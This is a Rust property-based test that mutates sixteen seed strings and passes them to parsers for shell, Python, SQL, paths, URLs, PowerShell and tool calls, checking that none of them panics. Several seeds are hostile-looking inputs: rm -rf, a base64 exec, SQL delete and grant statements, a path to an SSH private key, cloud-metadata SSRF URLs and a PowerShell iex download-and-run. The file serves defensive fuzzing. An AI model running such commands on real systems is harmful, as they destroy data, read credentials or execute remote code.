//! The fuzz targets, over seeds with a few bytes changed: what a long run would find at once is found here.

#![expect(clippy::panic, reason = "tests fail by panicking")]

use proptest::prelude::*;

#[expect(unreachable_pub, reason = "for the fuzz targets it is a crate of its own")]
#[path = "../../fuzz/src/lib.rs"]
mod targets;

const SEEDS: [&str; 16] = [
    "for f in $(ls *.{c,h}); do sed -i \"s/a/${b:-x}/\" \"$f\" || exit 1; done 2>&1 | tee -a log",
    "cat <<'EOF' | bash -s -- a b\nrm -rf \"$1\" ${x//a/b} $((1+2)) `id` <(ls) >(cat)\nEOF",
    "x=(a b c); printf -v y '%s\\x41' \"${x[@]:1:2}\"; eval \"$y\"; [[ $y =~ ^a ]] && f() { :; }; f",
    "find . -name '*.rs' -exec grep -l TODO {} + | xargs -I@ sh -c 'echo @'",
    "import os, subprocess as s\nfor i in range(3):\n    s.run(['ls', f'{i}'], check=True)\nos.system('a' + 'b')",
    "exec(__import__('base64').b64decode('cHJpbnQoMSk=').decode()[::-1][::-1])",
    "from hermes_tools import terminal as t, write_file\nt('ls'); write_file('a', 'b'.join(['c', 'd']))",
    "select a, 'b' from t where c = 1; delete from t; -- x\n/* y */ update t set a = 'b;c'",
    "copy t to program 'sh'; grant all on *.* to 'x'@'%'; drop table if exists t cascade",
    "../../~/.ssh/./id_rsa",
    "file:///private/etc/../home/x/.env",
    "http://user:pw@0xA9FEA9FE:80/a?b=c&d=%2e%2e#f",
    "http://[::ffff:169.254.169.254]/x",
    "Get-ChildItem -Recurse | Remove-Item -Force; & ('i'+'ex') (iwr http://x)",
    "{\"a\": [1, 2.5e3, \"\\u00e9\", null], \"b\": {\"c\": true}}",
    "terminal\n{\"command\": \"ls\", \"args\": [\"-la\", {\"x\": 1}]}",
];

fn mutated() -> impl Strategy<Value = Vec<u8>> {
    let change = (any::<prop::sample::Index>(), any::<u8>(), 0u8..4);
    let changes = prop::collection::vec(change, 0..6);
    (prop::sample::select(SEEDS.to_vec()), prop::sample::select(SEEDS.to_vec()), changes).prop_map(
        |(seed, other, changes)| {
            let mut bytes = seed.as_bytes().to_vec();
            for (at, byte, kind) in changes {
                let at = at.index(bytes.len().max(1)).min(bytes.len());
                match kind {
                    0 => bytes.insert(at, byte),
                    1 => drop(bytes.splice(at..at.min(bytes.len()), *b"$(")),
                    2 => bytes.truncate(at),
                    _ => bytes.extend(other.as_bytes().iter().skip(at)),
                }
            }
            bytes
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn no_reader_stumbles(data in mutated()) {
        targets::shell(&data);
        targets::python(&data);
        targets::sql(&data);
        targets::path(&data);
        targets::url(&data);
        targets::powershell(&data);
        targets::frame(&data);
        targets::call(&data);
    }
}
